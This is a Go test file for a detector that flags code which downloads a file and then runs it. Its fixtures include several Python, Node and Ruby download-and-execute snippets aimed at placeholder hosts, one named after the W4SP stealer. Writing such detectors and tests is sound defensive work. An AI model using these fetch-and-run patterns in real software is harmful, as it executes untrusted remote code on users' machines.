package analysis

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestDroppedRun: a file the code downloads and then starts, named the
// same way (a variable, a literal path), is found with the line that
// starts it; a download beside a program the code names by itself, a file
// opened only to read, or a program that is another file is not.
func TestDroppedRun(t *testing.T) {
	type found struct {
		Line, File string
		OK         bool
	}
	for _, tc := range []struct {
		name    string
		code    string
		network bool
		want    found
	}{
		{name: "W4SP: urlretrieve, chmod, Popen of the same variable",
			code: "import os, stat, subprocess, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), \"pyhelper\")\n" +
				"urllib.request.urlretrieve(\"https://files.example.org/bin/linux-amd64\", p)\nos.chmod(p, stat.S_IRWXU)\n" +
				"subprocess.Popen([p], start_new_session=True)\n",
			network: true,
			want:    found{Line: "subprocess.Popen([p], start_new_session=True)", File: "p", OK: true}},
		{name: "a literal path downloaded and run by sh",
			code:    "from urllib.request import urlretrieve\nurlretrieve('https://x.example/i.sh', filename='/tmp/i.sh')\nsubprocess.check_call(['sh', '/tmp/i.sh'])\n",
			network: true,
			want:    found{Line: "subprocess.check_call(['sh', '/tmp/i.sh'])", File: "'/tmp/i.sh'", OK: true}},
		{name: "requests written with open(…, 'wb') and run by the interpreter",
			code: "import requests, subprocess, sys\nr = requests.get(URL)\nwith open(dest, 'wb') as f:\n    f.write(r.content)\n" +
				"subprocess.run([sys.executable, dest], check=True)\n",
			network: true,
			want:    found{Line: "subprocess.run([sys.executable, dest], check=True)", File: "dest", OK: true}},
		{name: "os.system of the downloaded file's path",
			code:    "wget.download(u, out='./tool')\nos.system('./tool --install')\n",
			network: false,
			want:    found{Line: "os.system('./tool --install')", File: `"./tool"`, OK: true}},
		{name: "node: fetched into a write stream, then execFileSync",
			code:    "https.get(u, r => r.pipe(fs.createWriteStream(bin)));\nchild_process.execFileSync(bin, ['--serve']);\n",
			network: true,
			want:    found{Line: "child_process.execFileSync(bin, ['--serve']);", File: "bin", OK: true}},
		{name: "ruby: copy_stream then system",
			code:    "IO.copy_stream(URI.open(u), path)\nFile.chmod(0755, path)\nsystem(path)\n",
			network: true,
			want:    found{Line: "system(path)", File: "path", OK: true}},

		{name: "benign: data downloaded, a literal program run (cmake)",
			code: "urllib.request.urlretrieve(\"https://x.example/data.tgz\", \"third_party/data.tgz\")\n" +
				"subprocess.check_call([\"cmake\", \"-S\", \".\", \"-B\", \"build\"])\n",
			network: true},
		{name: "benign: downloaded archive, the program run is another file",
			code:    "urlretrieve(url, archive)\nsubprocess.run(['tar', 'xzf', archive])\nsubprocess.run([tool])\n",
			network: true},
		{name: "benign: a file opened to read with an encoding, then run",
			code:    "requests.post(u)\nwith open(script, encoding='utf-8') as f:\n    print(f.read())\nsubprocess.run([script])\n",
			network: true},
		{name: "benign: a written file run, but the code reaches no network",
			code:    "with open('gen.sh', 'w') as f:\n    f.write('echo hi')\nsubprocess.run(['sh', 'gen.sh'])\n",
			network: false},
		{name: "benign: the download's target is computed by a call, not a name",
			code:    "urlretrieve(u, os.path.join(d, 'x'))\nsubprocess.Popen([os.path.join(d, 'x')])\n",
			network: true},
		{name: "benign: an f-string target is no known path",
			code:    "urlretrieve(u, f\"{d}/x\")\nsubprocess.Popen([f\"{d}/x\"])\n",
			network: true},
		{name: "benign: urlopen is no open() for writing",
			code:    "data = urllib.request.urlopen(u, 'wb')\nsubprocess.run([data])\n",
			network: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := droppedRun(tc.code, tc.network)
			if d.Read < 0 || d.Read > len(tc.code) {
				t.Errorf("read %d bytes of call arguments, want 0 to %d", d.Read, len(tc.code))
			}
			got := found{Line: d.Line, File: d.File, OK: d.File != ""}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("droppedRun (-want +got):\n%s", diff)
			}
		})
	}
}

// TestCallNames: callsIn compares a parenthesis's preceding letter first,
// so every name is in lower case and ends in a letter and "(".
func TestCallNames(t *testing.T) {
	for _, n := range append(append([]string{}, dropNames...), runNames...) {
		if n != strings.ToLower(n) || len(n) < 2 || n[len(n)-1] != '(' || n[len(n)-2] < 'a' || n[len(n)-2] > 'z' {
			t.Errorf("call name %q: want lower case, ending in a letter and (", n)
		}
	}
	var got []string
	for at, i := range callsIn("x = OS.System('a'); myspawn(b); File.open(c, 'wb')", runNames) {
		got = append(got, fmt.Sprintf("%d %s", at, runNames[i]))
	}
	if diff := cmp.Diff([]string{"4 os.system("}, got); diff != "" {
		t.Errorf("callsIn (-want +got):\n%s", diff)
	}
}

// BenchmarkDroppedRun measures the check on the worst text it reads: 256
// KiB of Python that reaches the network, writes files and starts
// programs on every line, none of them a downloaded one.
func BenchmarkDroppedRun(b *testing.B) {
	var code strings.Builder
	for code.Len() < 256<<10-100 {
		code.WriteString("subprocess.run([\"cc\", \"-c\", \"a.c\"]); open('/tmp/o', 'wb'); requests.get('https://example.com/a')\n")
	}
	text := code.String()
	for b.Loop() {
		if d := droppedRun(text, true); d.File != "" {
			b.Fatal(d)
		}
	}
	b.ReportMetric(float64(len(text)), "bytes")
}

// TestDroppedRunPadded: calls that never close cost at most maxDropArgs
// bytes each, all of which the caller is charged, and padding does not
// hide a download that is run after it.
func TestDroppedRunPadded(t *testing.T) {
	pad := strings.Repeat("open(", 2000)
	code := pad + "\nurlretrieve(u, p)\nsubprocess.run([p])\n"
	d := droppedRun(code, true)
	if d.File != "p" || d.Line != "subprocess.run([p])" {
		t.Errorf("droppedRun after padding = %+v, want p run at subprocess.run([p])", d)
	}
	if d.Read > 2000*maxDropArgs+len(code) || d.Read < len(pad) {
		t.Errorf("read %d bytes, want between %d and %d", d.Read, len(pad), 2000*maxDropArgs+len(code))
	}
}
